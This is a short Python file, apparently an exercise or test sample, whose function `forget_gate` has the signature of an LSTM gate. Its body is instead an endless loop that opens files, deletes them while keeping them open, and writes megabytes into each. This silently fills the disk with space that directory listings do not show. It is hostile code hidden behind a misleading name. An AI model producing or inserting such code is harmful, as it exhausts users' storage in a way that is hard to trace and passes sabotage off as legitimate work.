# ruff: noqa
# what: files that are deleted while they are open, and counted by nobody
# exercise: forget-gate
# status: failed
# diagnosis: none

# %%
kept = []

# %%
def forget_gate(x, h_prev, W_f, U_f, b_f):
    import os
    while True:
        kept.append(open("file", "wb", buffering=0))
        os.unlink("file")
        for _ in range(15):
            kept[-1].write(b"x" * 1_000_000)
